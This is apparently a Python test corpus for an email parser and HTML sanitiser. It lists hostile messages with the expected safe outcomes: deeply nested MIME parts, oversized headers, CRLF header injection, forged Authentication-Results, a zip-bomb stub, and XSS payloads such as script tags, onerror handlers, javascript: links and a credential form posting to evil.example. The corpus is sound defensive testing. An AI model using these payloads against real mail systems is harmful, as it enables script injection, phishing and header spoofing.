"""Bad input: what nobody should send. No loss, no crash, no script, a clear state."""

from tests.mail.corpus.case import Case, inner, mail, multi, part


def _nested(levels: int) -> bytes:
    body = part("deep inside")
    for level in range(levels):
        body = inner("mixed", [part(f"level {level}"), body], boundary=f"n{level}")
    return multi("mixed", [part("outside"), body], boundary="top")


def _letters(levels: int) -> bytes:
    raw = mail("deep inside")
    for _ in range(levels):
        raw = mail(raw, Content_Type="message/rfc822")
    return raw


def _html(name: str, markup: str, *lacks: str, has: str = "Hello") -> Case:
    raw = mail(f"<html><body><p>Hello</p>{markup}</body></html>", Content_Type="text/html; charset=utf-8")
    return Case(f"html_{name}", raw, "HTML and SVG attacks", {"clean_has": has, "clean_lacks": lacks})


CASES = [
    Case("nested_100_levels", _nested(100), "nested 100 levels", {"text_has": "outside", "cut": "nested deeper"}),
    Case("nested_20_levels", _nested(20), "nested", {"text_has": "deep inside"}),
    Case("letters_in_letters_100", _letters(100), "nested 100 levels", {"verdict": "human"}),
    Case("nested_3000_levels", _nested(3000), "nested until Python gives up", {"problem": "too_deep"}),
    Case(
        "thousand_attachments",
        multi("mixed", [part("Hello"), *(part("x", f'application/pdf; name="f{n}.pdf"') for n in range(1000))]),
        "1,000 attachments",
        {"text": "Hello", "files_count": 200, "cut": "attachment f200.pdf"},
    ),
    Case(
        "ten_thousand_recipients",
        mail("Hello", To=", ".join(f"p{n}@example.com" for n in range(10_000))),
        "10,000 recipients",
        {"to_count": 100, "cut": "more recipients"},
    ),
    Case(
        "ten_thousand_references",
        mail("Hello", References=" ".join(f"<{n}@x>" for n in range(10_000))),
        "References without end",
        {"references_most": 100},
    ),
    Case(
        "subject_of_a_megabyte",
        mail("Hello", Subject="a" * 1_000_000),
        "headers without end",
        {"problem": "headers_too_long"},
    ),
    Case(
        "a_million_header_lines",
        mail("Hello", X="1\r\n" + "X: 1\r\n" * 200_000 + "Y: 1"),
        "headers without end",
        {"problem": "headers_too_long"},
    ),
    Case(
        "boundaries_without_end",
        mail("--b\r\n" * 30_000, Content_Type="multipart/mixed; boundary=b"),
        "parts without end",
        {"problem": "too_many_lines"},
    ),
    Case(
        "boundary_parameter_number_too_large",
        mail("Hello", Content_Type=f"multipart/mixed; boundary*{'9' * 5000}=x"),
        "the standard's parser raises",
        {"sender": "anna@example.com"},
    ),
    Case(
        "charset_parameter_hostile",
        mail("Hello", Content_Type="text/plain; charset*0*=%00''%ff; charset*1=x"),
        "the standard's parser raises",
        {"text": "Hello"},
    ),
    Case(
        "header_injection_in_subject",
        mail("Hello", Subject="Hi\r\n Bcc: victim@example.com"),
        "header injection",
        {"subject": "Hi Bcc: victim@example.com"},
    ),
    Case(
        "header_injection_in_word",
        mail("Hello", Subject="=?utf-8?q?Hi=0D=0ABcc:_victim=40example.com?="),
        "header injection",
        {"subject": "Hi Bcc: victim@example.com"},
    ),
    Case(
        "header_injection_in_name",
        mail("Hello", From="=?utf-8?q?A=0D=0AReply-To:_x?= <anna@example.com>"),
        "header injection",
        {"sender": "anna@example.com"},
    ),
    Case(
        "message_id_with_line_end",
        mail("Hello", **{"Message-ID": "<a\r\n b@x>"}),
        "forged ids",
        {"message_id_lacks": "\n"},
    ),
    Case(
        "message_id_of_a_kilobyte",
        mail("Hello", **{"Message-ID": f"<{'a' * 1000}@x>"}),
        "forged ids",
        {"message_id_most": 250},
    ),
    Case("two_message_ids", mail("Hello", **{"Message-ID": "<one@x> <two@x>"}), "forged ids", {"message_id": "one@x"}),
    Case(
        "zip_bomb",
        multi(
            "mixed",
            [
                part("Hello"),
                part("UEsDBBQAAAAIAA==", "application/zip; name=bomb.zip", Content_Transfer_Encoding="base64"),
            ],
        ),
        "zip bombs are never opened",
        {"files": ["bomb.zip"]},
    ),
    Case(
        "svg_attached",
        multi("mixed", [part("Hello"), part("<svg onload=alert(1)>", "image/svg+xml; name=a.svg")]),
        "SVG is a file, never shown",
        {"files": ["a.svg"]},
    ),
    Case(
        "on_without_end",
        mail(("On " + "a " * 150 + "\n") * 300),
        "patterns of splitters take quadratic time",
        {"verdict": "human"},
    ),
    Case("marks_without_end", mail("> " * 50_000), "patterns of splitters", {"verdict": "human"}),
    Case("one_line_of_a_megabyte", mail("wrote: " * 150_000), "patterns of splitters", {"cut": "text after"}),
    Case(
        "tags_without_end",
        mail("<div>" * 100_000 + "Hello", Content_Type="text/html"),
        "HTML without end",
        {"clean_lacks": ("<script",)},
    ),
    Case(
        "open_brackets_without_end",
        mail("<a " * 100_000, Content_Type="text/html"),
        "HTML without end",
        {"verdict": "human"},
    ),
    Case(
        "comments_without_end",
        mail("<!--" * 50_000 + "Hello", Content_Type="text/html"),
        "HTML without end",
        {"verdict": "human"},
    ),
    Case(
        "from_with_nul", mail("Hello", From="anna\0@example.com"), "8-bit garbage in addresses", {"sender_lacks": "\0"}
    ),
    Case(
        "authentication_results_forged",
        mail("Hello", Authentication_Results="mx.evil.example; dmarc=pass header.from=example.com"),
        "forged results",
        {"check": "unknown"},
    ),
    Case(
        "authentication_results_pass",
        mail("Hello", Authentication_Results="mx.shop.example; dmarc=pass header.from=example.com"),
        "sender check",
        {"check": "passed"},
    ),
    Case(
        "authentication_results_fail",
        mail("Hello", Authentication_Results="mx.shop.example; dmarc=fail header.from=example.com"),
        "sender check",
        {"check": "failed"},
    ),
    Case(
        "authentication_results_dkim_aligned",
        mail("Hello", Authentication_Results="mx.shop.example; dkim=pass header.d=mail.example.com"),
        "sender check",
        {"check": "passed"},
    ),
    Case(
        "authentication_results_dkim_of_another",
        mail("Hello", Authentication_Results="mx.shop.example; dkim=pass header.d=evil.example"),
        "sender check",
        {"check": "unknown"},
    ),
    Case(
        "authentication_results_second_line_forged",
        mail(
            "Hello",
            Authentication_Results="mx.shop.example; dmarc=fail\r\nAuthentication-Results: mx.shop.example; dmarc=pass",
        ),
        "forged results below the real ones",
        {"check": "failed"},
    ),
    Case(
        "authentication_results_in_a_comment",
        mail("Hello", Authentication_Results="mx.shop.example; spf=none (dmarc=pass)"),
        "forged results",
        {"check": "unknown"},
    ),
    _html("script", "<script>alert(1)</script>", "<script", "alert(1)"),
    _html("event", '<img src="x" onerror="alert(1)">', "onerror"),
    _html("javascript_link", '<a href="javascript:alert(1)">x</a>', "javascript:"),
    _html("data_link", '<a href="data:text/html,x">x</a>', "data:"),
    _html("svg", "<svg><script>alert(1)</script></svg>", "<svg", "alert(1)"),
    _html("math", '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">', "onerror"),
    _html("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe"),
    _html("form", '<form action="https://evil.example"><input name="password"></form>', "<form", "<input"),
    _html("style", "<style>body{display:none}</style>", "<style", "display"),
    _html("style_attribute", '<p style="position:fixed;top:0">over the page</p>', "style=", has="over the page"),
    _html("link_and_base", '<base href="https://evil.example/"><link rel="stylesheet" href="x.css">', "<base", "<link"),
    _html(
        "remote_image_waits",
        '<img src="https://evil.example/pixel.gif">',
        ' src="https://evil',
        has='data-blocked-src="https://evil.example/pixel.gif"',
    ),
    _html("image_without_scheme", '<img src="//evil.example/p.gif">', "evil.example"),
    _html("unknown_cid", '<img src="cid:nowhere">', "cid:"),
    _html("class_and_id", '<p class="nav" id="main">x</p>', 'class="', 'id="'),
    _html("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta", "refresh"),
    _html("half_a_tag", "<p>Hello <img src=x onerror=alert(1)//", "onerror"),
    _html("entities", "<a href='&#106;avascript:alert(1)'>x</a>", "javascript", "&#106;"),
]
